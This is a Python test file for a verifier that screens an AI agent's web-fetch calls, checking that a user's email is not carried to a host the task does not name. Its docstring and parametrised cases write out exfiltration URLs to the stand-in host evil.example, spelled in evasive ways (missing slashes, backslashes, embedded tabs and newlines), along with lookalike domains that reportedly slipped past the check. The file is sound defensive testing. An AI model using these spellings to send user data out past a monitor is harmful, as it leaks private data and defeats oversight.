"""URLs as a browser reads them, and the names a task writes as a user writes them.

An attacker's probe scored `https:evil.example/q?e=<the user's email>` 0: only a literal
`://` was read as a URL, while a browser (WHATWG URL) skips any run of slashes and
backslashes after a special scheme's colon, and drops tabs and line breaks anywhere in a
URL. The same probe found tasks naming a host as `shop.example's`, `shop.example/orders`
or in a Markdown link made a fetch of that very host a block."""

from __future__ import annotations

import pytest
from fixtures.scoring import score_call

from bastion.v1 import verifier_pb2
from bastion.verifier._destinations import _novel_destinations, _Path

TASK = "Get the price list from the wedding cars page; contact mira.tomas@ourmail.example"
EMAIL = "mira.tomas@ourmail.example"


def _fetch(url: str, task: str = TASK) -> verifier_pb2.ScoreResponse:
    return score_call("web__fetch", {"url": url}, [], task, intent_weight=0.0, destructive_weight=0.0)


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.example/q?e={EMAIL}",
        f"https:evil.example/q?e={EMAIL}",
        f"https:/evil.example/q?e={EMAIL}",
        f"https:///evil.example/q?e={EMAIL}",
        f"https:\\\\evil.example\\q?e={EMAIL}",
        f"HTTPS:evil.example/q?e={EMAIL}",
        f"wss:evil.example/q?e={EMAIL}",
        "https://evil.example/q?e=mira.tomas@ourmail.exam\tple",
        "https://evil.example/q?e=mira.tomas@our\nmail.example",
        f"https://evil.exam\tple/q?e={EMAIL}",
    ],
)
def test_the_tasks_value_carried_to_another_host_is_blocked_however_the_url_is_spelled(url: str) -> None:
    result = _fetch(url)
    assert result.verdict == verifier_pb2.BLOCK, result.reasons
    assert "carried in a URL" in result.reasons[0]
    assert "'evil.example'" in result.reasons[0]


@pytest.mark.parametrize(
    "text",
    [
        "the http: header",  # a scheme's name in prose, no host after it
        "note:evil.example",  # not a special scheme: a label, not a URL
        "see mailto:someone",
    ],
)
def test_a_colon_in_prose_is_not_a_url(text: str) -> None:
    result = _fetch(text)
    assert all("carried" not in reason for reason in result.reasons)


@pytest.mark.parametrize(
    "task",
    [
        f"Check my order on shop.example's order page, my email is {EMAIL}",
        f"Open shop.example/orders and look up {EMAIL}",
        f"Look up my order on [the shop](shop.example) for {EMAIL}",
        f"Check my order on shop.example\u2014my email is {EMAIL}",
        f"Check my order on shop.example \u2013 {EMAIL}",
    ],
)
def test_a_host_the_task_names_however_it_is_written_is_named(task: str) -> None:
    result = _fetch(f"https://shop.example/orders?email={EMAIL}", task)
    assert result.verdict == verifier_pb2.PASS, result.reasons


@pytest.mark.parametrize(
    ("task_host", "url_host"),
    [("bücher.example", "xn--bcher-kva.example"), ("xn--bcher-kva.example", "bücher.example")],
)
def test_an_internationalised_host_is_the_same_in_both_spellings(task_host: str, url_host: str) -> None:
    result = _fetch(f"https://{url_host}/orders?email={EMAIL}", f"Check my order on {task_host}, I am {EMAIL}")
    assert result.verdict == verifier_pb2.PASS, result.reasons
    # Another host is still another host.
    other = _fetch(f"https://shop.example/orders?email={EMAIL}", f"Check my order on {task_host}, I am {EMAIL}")
    assert other.verdict == verifier_pb2.BLOCK


def test_a_subdomain_is_its_named_owners_and_a_sibling_or_lookalike_is_not() -> None:
    found = {
        host: _Path(None, "to")
        for host in ("lists.acme.example", "acme.example", "deep.a.b.acme.example", "acme.example.evil.example",
                     "notacme.example", "acme.example-login.example")
    }  # fmt: skip
    task = "Write to the acme.example team and to github.io"
    novel = [host for host, _ in _novel_destinations(found, task)]
    assert novel == ["acme.example.evil.example", "notacme.example", "acme.example-login.example"]
    # A shared platform's subdomains are its tenants', not the platform's.
    tenant = {"mallory.github.io": _Path(None, "to")}
    assert [host for host, _ in _novel_destinations(tenant, task)] == ["mallory.github.io"]
